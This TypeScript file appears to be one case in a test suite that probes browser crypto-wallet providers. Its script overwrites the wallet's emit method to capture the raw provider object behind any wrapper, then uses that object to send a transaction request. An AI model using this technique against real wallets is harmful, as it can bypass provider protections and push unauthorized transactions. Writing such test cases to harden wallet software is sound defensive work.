import type { Attack } from '../Attack.ts';

/** A property the page adds is called by the wallet's own code. */
export const attack: Attack = {
  entry: 'provider members',
  mechanism: 'emit replaced by a function that keeps its this',
  discovers: true,
  script: `
const wallet = await kit.wallet();
let raw = wallet;
const keep = function () { raw = this; return true; };
try { wallet.emit = keep; } catch {}
wallet.emit('chainChanged', '0x1');
await kit.sleep(300);
await raw.request(kit.send());
`,
};
